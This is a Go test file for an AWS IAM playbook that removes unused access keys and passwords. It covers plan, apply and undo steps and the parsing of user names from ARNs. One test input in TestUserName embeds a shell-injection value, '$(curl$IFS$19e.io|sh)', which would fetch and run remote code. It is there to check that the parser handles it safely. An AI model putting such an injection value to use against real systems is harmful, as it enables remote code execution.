package iam_test

import (
	"context"
	"crypto/rand"
	"strings"
	"testing"
	"time"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/iam"
	"github.com/aws/aws-sdk-go-v2/service/iam/types"
	"github.com/google/go-cmp/cmp"

	playbook "github.com/salve-security/salve/functions/playbooks/iam"
	"github.com/salve-security/salve/functions/playbooktest"
	"github.com/salve-security/salve/internal/fault"
)

const userPrefix = "arn:aws:iam::" + playbooktest.DefaultAccount + ":user/"

// afterwards is a time at which everything the lab makes now is unused.
func afterwards() time.Time { return time.Now().Add(100 * 24 * time.Hour) }

func TestUnusedCredentials(t *testing.T) {
	playbooktest.Run(t, playbooktest.Suite{
		Control: playbook.UnusedCredentials()[0], Now: afterwards(),
		Seed: newUser,
		Foreign: []string{
			userPrefix, userPrefix + "*", userPrefix + "a b", userPrefix + "a\nb/bob",
			userPrefix + strings.Repeat("a", 511) + "/bob",
			"arn:aws:iam::222222222222:root", "arn:aws:iam::222222222222:role/x",
		},
		Observe:   keysAndTags,
		Disturb:   deleteActiveKeys, // a key has two states: only its absence is neither of them
		Unrelated: tagUser,
		Delete:    deleteUser,
	})
}

// newUser has two keys, one of them active, and a password.
func newUser(ctx context.Context, t *testing.T, root aws.Config) string {
	t.Helper()
	client, name := iam.NewFromConfig(root), "suite-"+strings.ToLower(rand.Text())
	_, err := client.CreateUser(ctx, &iam.CreateUserInput{UserName: &name})
	must(t, err)
	for _, status := range []string{"Active", "Inactive"} {
		key, err := client.CreateAccessKey(ctx, &iam.CreateAccessKeyInput{UserName: &name})
		must(t, err)
		_, err = client.UpdateAccessKey(ctx, &iam.UpdateAccessKeyInput{
			UserName: &name, AccessKeyId: key.AccessKey.AccessKeyId, Status: "Inactive",
		})
		must(t, err)
		if status == "Active" {
			_, err = client.UpdateAccessKey(ctx, &iam.UpdateAccessKeyInput{
				UserName: &name, AccessKeyId: key.AccessKey.AccessKeyId, Status: "Active",
			})
			must(t, err)
		}
	}
	_, err = client.CreateLoginProfile(ctx, &iam.CreateLoginProfileInput{
		UserName: &name, Password: aws.String("Correct-horse-7-" + rand.Text()),
	})
	must(t, err)
	return userPrefix + name
}

func userName(resource string) *string { return aws.String(strings.TrimPrefix(resource, userPrefix)) }

// keysAndTags leaves out the password, which undo cannot bring back: TestPasswordIsOneWay is about that.
func keysAndTags(ctx context.Context, t *testing.T, root aws.Config, resource string) any {
	t.Helper()
	client, s := iam.NewFromConfig(root), map[string]int{}
	keys, err := client.ListAccessKeys(ctx, &iam.ListAccessKeysInput{UserName: userName(resource)})
	must(t, err)
	for _, k := range keys.AccessKeyMetadata {
		s[string(k.Status)]++
	}
	tags, err := client.ListUserTags(ctx, &iam.ListUserTagsInput{UserName: userName(resource)})
	must(t, err)
	for _, tag := range tags.Tags {
		s["tag "+aws.ToString(tag.Key)]++
	}
	return s
}

// deleteActiveKeys deletes all keys: after a fix none is active that the suite could tell apart.
func deleteActiveKeys(ctx context.Context, t *testing.T, root aws.Config, resource string) {
	t.Helper()
	client := iam.NewFromConfig(root)
	keys, err := client.ListAccessKeys(ctx, &iam.ListAccessKeysInput{UserName: userName(resource)})
	must(t, err)
	for _, k := range keys.AccessKeyMetadata {
		_, err := client.DeleteAccessKey(ctx, &iam.DeleteAccessKeyInput{UserName: k.UserName, AccessKeyId: k.AccessKeyId})
		must(t, err)
	}
}

func tagUser(ctx context.Context, t *testing.T, root aws.Config, resource string) {
	t.Helper()
	_, err := iam.NewFromConfig(root).TagUser(ctx, &iam.TagUserInput{
		UserName: userName(resource), Tags: []types.Tag{{Key: aws.String("team"), Value: aws.String("ops")}},
	})
	must(t, err)
}

func deleteUser(ctx context.Context, t *testing.T, root aws.Config, resource string) {
	t.Helper()
	client := iam.NewFromConfig(root)
	deleteActiveKeys(ctx, t, root, resource)
	_, err := client.DeleteLoginProfile(ctx, &iam.DeleteLoginProfileInput{UserName: userName(resource)})
	must(t, err)
	_, err = client.DeleteUser(ctx, &iam.DeleteUserInput{UserName: userName(resource)})
	must(t, err)
}

func hasPassword(ctx context.Context, t *testing.T, root aws.Config, resource string) bool {
	t.Helper()
	_, err := iam.NewFromConfig(root).GetLoginProfile(ctx, &iam.GetLoginProfileInput{UserName: userName(resource)})
	if fault.Of(err) == fault.Gone {
		return false
	}
	must(t, err)
	return true
}

// Undo brings keys back, says why it cannot do so with a password, and does not try.
func TestPasswordIsOneWay(t *testing.T) {
	c, root := playbook.UnusedCredentials()[0], playbooktest.Root(t)
	resource := newUser(t.Context(), t, root)
	before := keysAndTags(t.Context(), t, root, resource)
	env := playbooktest.Env(t, c, resource)
	env.Now = afterwards()
	plan, err := c.Plan(t.Context(), env)
	must(t, err)
	if !plan.OneWay() || !strings.Contains(plan.String(), "one way: a deleted password cannot be restored") {
		t.Errorf("the plan does not say that it is one way:\n%s", plan)
	}
	must(t, c.Apply(t.Context(), env, plan))
	if hasPassword(t.Context(), t, root, resource) {
		t.Error("the password is still there")
	}
	undo, err := c.PlanUndo(t.Context(), env, plan.Changes)
	must(t, err)
	must(t, c.Apply(t.Context(), env, undo))
	seen, err := c.Verify(t.Context(), env, undo)
	if err != nil || len(seen.Left) > 0 {
		t.Errorf("after the undo: %v, left %v", err, seen.Left)
	}
	if d := cmp.Diff(before, keysAndTags(t.Context(), t, root, resource)); d != "" {
		t.Errorf("keys after the undo (-want +got):\n%s", d)
	}
}

// Credentials made today are not unused today.
func TestNewCredentialsStay(t *testing.T) {
	c, root := playbook.UnusedCredentials()[0], playbooktest.Root(t)
	env := playbooktest.Env(t, c, newUser(t.Context(), t, root))
	plan, err := c.Plan(t.Context(), env)
	if err != nil || !plan.Empty() {
		t.Errorf("plan: %v, changes:\n%s", err, plan)
	}
	env.Now = time.Time{}
	if _, err := c.Plan(t.Context(), env); err == nil {
		t.Error("a plan was made without a time")
	}
}

func TestUserName(t *testing.T) {
	c := playbook.UnusedCredentials()[0]
	env := playbooktest.Env(t, c, userPrefix+"eve")
	for resource, want := range map[string]string{
		userPrefix + "eve":                             "eve",
		userPrefix + "division/team/eve@corp.net":      "eve@corp.net",
		userPrefix + "$(curl$IFS$19e.io|sh)/bob":       "bob", // a path may hold any sign that shows
		userPrefix + "a\nb/bob":                        "",
		userPrefix + strings.Repeat("a", 511) + "/bob": "",
		"arn:aws-us-gov:iam::222222222222:user/a":      "a",
		userPrefix:                         "",
		userPrefix + "*":                   "",
		userPrefix + "a b":                 "",
		"arn:aws:iam::222222222222:root":   "",
		"arn:aws:iam::222222222222:role/x": "",
	} {
		env.Target.Resource = resource
		if name, ok := c.Name(env.Target); name != want || ok != (want != "") {
			t.Errorf("the name of %s is %q (%v), want %q", resource, name, ok, want)
		}
	}
}
